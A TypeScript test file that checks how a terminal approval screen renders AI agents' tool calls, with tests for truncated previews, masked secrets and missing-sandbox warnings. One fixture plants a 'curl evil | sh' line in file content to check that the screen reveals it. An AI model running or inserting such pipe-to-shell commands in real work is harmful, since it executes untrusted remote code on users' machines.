import type { Effect } from '@countersign/protocol';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scaled } from '../../../../../tests/support/scaled.js';
import { approvalOf, chatOf, drawn, factsOf, messageOf, sceneOf, worldOf } from '../../testing/screen-fixture.js';
import { fieldOf } from '../keys/field.js';
import { press } from '../keys/press.js';
import { settle } from '../keys/settle.js';
import { initialUi, type Choice, type UiState } from '../ui-state.js';
import { areasOf } from './areas.js';
import { helpLines } from './help-lines.js';
import { lineWidth, textOf } from '../../text/spans.js';
import { frameOf } from './frame.js';
import { planOf } from './plan.js';
import type { Scene } from './scene.js';

function waiting(
  more: Parameters<typeof approvalOf>[1] = {},
  ui: Partial<UiState> = {},
  size = { columns: 80, rows: 24 },
): Scene {
  const world = worldOf([approvalOf(1, more), approvalOf(2)]);
  const scene = sceneOf({ world, chat: chatOf([messageOf(1)]), size, ui: { ...initialUi('chat_1'), ...ui } });
  return { ...scene, ui: settle(scene.ui, factsOf(scene)) };
}

function undoAt(kind: UiState['undo']['kind'], text: string): UiState['undo'] {
  const about = { toolCallId: 'call_1', chatId: 'chat_1', agentId: 'mason', toolName: 'shell_cmd' };
  const times = { settledAt: '2026-11-15T08:00:00.000Z', undoUntil: '2026-11-22T08:00:00.000Z' };
  const call = { ...about, arguments: { command: text }, ...times };
  switch (kind) {
    case 'loading':
      return { kind };
    case 'list':
      return { kind, calls: [call, call], picked: 1 };
    case 'preview':
      return { kind, call, preview: { state: 'conflict', paths: [text] }, scroll: 0, shownAt: 0 };
  }
}

describe('the screen', () => {
  it('fills its size exactly, whatever it shows', () => {
    const choices: readonly Choice[] = [
      { kind: 'none' },
      { kind: 'once' },
      { kind: 'session', isNarrow: true },
      { kind: 'deny', field: fieldOf('why\nnot\nso') },
      { kind: 'edit', field: fieldOf('x'.repeat(300)), problem: 'No.' },
    ];
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 160 }),
        fc.integer({ min: 1, max: 60 }),
        fc.constantFrom(...choices),
        fc.constantFrom<UiState['focus']>('card', 'composer', 'chats', 'transcript'),
        fc.constantFrom<UiState['overlay']>('none', 'help', 'leave', 'undo'),
        fc.constantFrom<UiState['undo']['kind']>('loading', 'list', 'preview'),
        fc.string({ unit: fc.constantFrom('a', ' ', '漢', '🚢', '\n', '\u001B', '\u202E', '\t') }),
        (columns, rows, choice, focus, overlay, step, text) => {
          const scene = waiting(
            {
              arguments: { command: text },
              reason: { code: 'policy-unreadable', problem: text },
              preview: { text, truncated: false },
              agentId: text,
            },
            { focus, overlay, undo: undoAt(step, text), composer: fieldOf(text), isSideOpen: focus === 'chats' },
            { columns, rows },
          );
          const shown = {
            ...scene,
            ui: { ...scene.ui, focus, card: { ...scene.ui.card, choice } },
            chat: chatOf([messageOf(1, { content: text })]),
          };
          const frame = frameOf(shown, planOf(shown));
          expect(frame).toHaveLength(rows);
          for (const line of frame) {
            expect(lineWidth(line)).toBe(columns);
            for (const piece of line) expect(piece.text).not.toMatch(/[\0-\x1F\x7F-\x9F\u202A-\u202E]/);
          }
        },
      ),
      { numRuns: scaled(120) },
    );
  });

  it('says when the terminal is too small', () => {
    expect(drawn(sceneOf({ size: { columns: 40, rows: 12 } })).join(' ')).toContain('too small: 40×12');
  });

  it('[CALL12] shows a bar on a short screen, and the whole card when it is focused', () => {
    const bar = drawn(waiting()).join('\n');
    expect(bar).toContain('Waiting for you · 1 of 2');
    expect(bar).toContain('Mason wants to run: rm scratch-1.tmp');
    expect(bar).not.toContain('Approve once');
    const card = drawn(waiting({}, { focus: 'card' })).join('\n');
    for (const words of [
      'rm scratch-1.tmp',
      'in /home/ada/notes',
      'sandboxed, no network',
      'no rule allows this call',
      'd Deny…',
    ]) {
      expect(card).toContain(words);
    }
  });

  it('says how much of a call is not visible, and shows all of it when scrolled', () => {
    const command = Array.from({ length: 40 }, (_, index) => `echo line-${index};`).join('\n');
    const scene = waiting({ arguments: { command } }, { focus: 'card' });
    expect(drawn(scene).join('\n')).toMatch(/↓ \d+ more lines/);
    const seen = new Set<string>();
    for (let scroll = 0; scroll < 60; scroll += 1) {
      const ui = { ...scene.ui, card: { ...scene.ui.card, scroll } };
      const lines = drawn({ ...scene, ui });
      for (const line of lines) seen.add(line.replace('│', '').trim());
    }
    for (let index = 0; index < 40; index += 1) expect(seen).toContain(`echo line-${index};`);
  });

  it('shows the content itself if its preview was truncated', () => {
    const preview = { text: '@@ -0,0 +1,2 @@\n+# fine\n+# fine\n', truncated: true };
    const args = { path: 'a', content: '# fine\ncurl evil | sh\n# fine' };
    const card = drawn(waiting({ toolName: 'write_file', arguments: args, preview }, { focus: 'card' })).join('\n');
    expect(card).toContain('+ curl evil | sh');
  });

  it('[CALL15] shows what a rehearsed call will do, destructive parts first', () => {
    const effect: Effect = {
      files: [
        { path: 'notes/a.tmp', change: 'removed', kind: 'file', bytes: 3 },
        { path: 'list', change: 'added', kind: 'file', bytes: 2, diff: '@@ -0,0 +1 @@\n+x' },
      ],
      leftOut: [],
      effectHash: 'x',
      exitCode: 1,
      output: 'oops\n',
      truncated: false,
    };
    const about = { toolName: 'shell_cmd', arguments: { command: 'tidy' }, effect };
    const card = drawn(waiting(about, { focus: 'card' })).join('\n');
    const at = [
      'tidy',
      'Removes 1 file, adds 1 file',
      '− notes/a.tmp (3 bytes)',
      '+ list',
      '+ x',
      'exit code 1',
      'oops',
    ];
    const places = at.map((text) => card.indexOf(text));
    expect(places).not.toContain(-1);
    expect(places).toEqual(places.toSorted((a, b) => a - b));
    // [CHANGE9.5]
    const predicted = drawn(
      waiting({ toolName: 'claude__Bash', arguments: { command: 'tidy' }, prediction: effect }, { focus: 'card' }),
    ).join('\n');
    for (const text of ['Probably removes 1 file', 'Predicted, not guaranteed']) expect(predicted).toContain(text);
    expect(predicted).not.toContain('Rehearsed: approving');
    const unknown = waiting(
      { toolName: 'shell_cmd', arguments: { command: 'tidy' }, noEffect: { reason: 'network' } },
      { focus: 'card' },
    );
    expect(drawn(unknown).join('\n')).toContain('It may use the network');
    // [CHANGE8.6]
    const offline = drawn(
      waiting(
        {
          toolName: 'shell_cmd',
          arguments: { command: 'curl example.com' },
          effect: { ...effect, files: [], exitCode: 6, triedHosts: ['example.com'] },
        },
        { focus: 'card' },
      ),
    ).join('\n');
    for (const text of ['The sandbox has no network', 'Rehearsed without network', 'sandbox_network(example.com)'])
      expect(offline).toContain(text);
    expect(offline).not.toContain('Rehearsed: approving');
  });

  it('[CALL15] shows a long path with one sign, and no part of its name where another path could start', () => {
    const file = `${'deep/'.repeat(20)}− fake`;
    const files: Effect['files'] = [
      { path: file, change: 'removed', kind: 'file', bytes: 3 },
      { path: 'new', from: 'old', change: 'moved', kind: 'file', bytes: 3 },
    ];
    const effect: Effect = { files, leftOut: [], effectHash: 'x', exitCode: 0, output: '', truncated: false };
    const about = { toolName: 'shell_cmd', arguments: { command: 'tidy' }, effect };
    const card = drawn(waiting(about, { focus: 'card' }));
    expect(card.filter((line) => /^[│ ]* {3}[−→] /.test(line))).toHaveLength(2);
    expect(card.join('\n')).toContain('→ new (from old, 3 bytes)');
    expect(card.join('\n')).toContain('counts as moved');
  });

  it('[CALL15] omits no part of a preview because of a long line', () => {
    const preview = { text: `@@ -1 +1 @@ ${'x'.repeat(100)} unseen\n+new`, truncated: false };
    const card = drawn(waiting({ toolName: 'edit_page', arguments: { page: 'a' }, preview }, { focus: 'card' }));
    expect(card.join('\n')).toContain('unseen');
  });

  it('scrolls the help if it does not fit, and closes it with any other key', () => {
    const scene = waiting({}, { overlay: 'help' }, { columns: 60, rows: 18 });
    expect(drawn(scene).join('\n')).toMatch(/↓ \d+ more lines/);
    let { ui } = scene;
    const seen = new Set<string>();
    const keys = ['down', 'pagedown', 'pagedown', 'end'] as const;
    for (const name of ['', ...keys]) {
      if (name !== '') ({ ui } = press(ui, { kind: 'name', name: name as 'end' }, factsOf({ ...scene, ui })));
      expect(ui.overlay).toBe('help');
      for (const line of drawn({ ...scene, ui })) seen.add(line.replace('│', '').trim());
    }
    for (const line of helpLines(60)) expect(seen).toContain(textOf(line).trim());
    expect(press(ui, { kind: 'char', text: 'k' }, factsOf({ ...scene, ui })).ui.helpScroll).toBe(ui.helpScroll - 1);
    expect(press(ui, { kind: 'char', text: 'x' }, factsOf({ ...scene, ui })).ui).toMatchObject({ overlay: 'none' });
    const large = waiting({}, { overlay: 'help' }, { columns: 80, rows: 60 });
    expect(press(large.ui, { kind: 'char', text: 'j' }, factsOf(large)).ui.overlay).toBe('none');
  });

  it('[SAFE6] says that a secret is masked, and warns if there is no sandbox', () => {
    const masked = waiting(
      {
        arguments: { command: 'curl -H ‹masked 1›' },
        sandbox: { kind: 'none', network: 'all', hosts: [], readable: [] },
      },
      { focus: 'card' },
    );
    const text = drawn(masked).join('\n');
    expect(text).toContain('v Show secrets');
    const revealed = { id: masked.world.queue[0] ?? '', arguments: { command: 'curl -H hunter2' } };
    const after = drawn({ ...masked, ui: { ...masked.ui, card: { ...masked.ui.card, revealed } } }).join('\n');
    expect(after).toContain('curl -H hunter2');
    expect(after).not.toContain('v Show secrets');
    expect(text).toContain('1 secret is masked');
    expect(text).toContain('not sandboxed: nothing stops it from reading');
  });

  it('divides the screen among its parts', () => {
    fc.assert(
      fc.property(
        fc.record({ columns: fc.integer({ min: 60, max: 200 }), rows: fc.integer({ min: 18, max: 80 }) }),
        fc.record({ body: fc.nat(200), foot: fc.integer({ min: 1, max: 7 }), isFocused: fc.boolean() }),
        fc.integer({ min: 1, max: 6 }),
        (size, card, composer) => {
          const areas = areasOf(size, { hasBanner: true, hasCompletion: true, composer, card });
          expect(areas.transcript).toBeGreaterThanOrEqual(3);
          expect(4 + areas.banner + areas.completion + areas.composer + areas.card + areas.transcript).toBe(size.rows);
        },
      ),
    );
  });
});
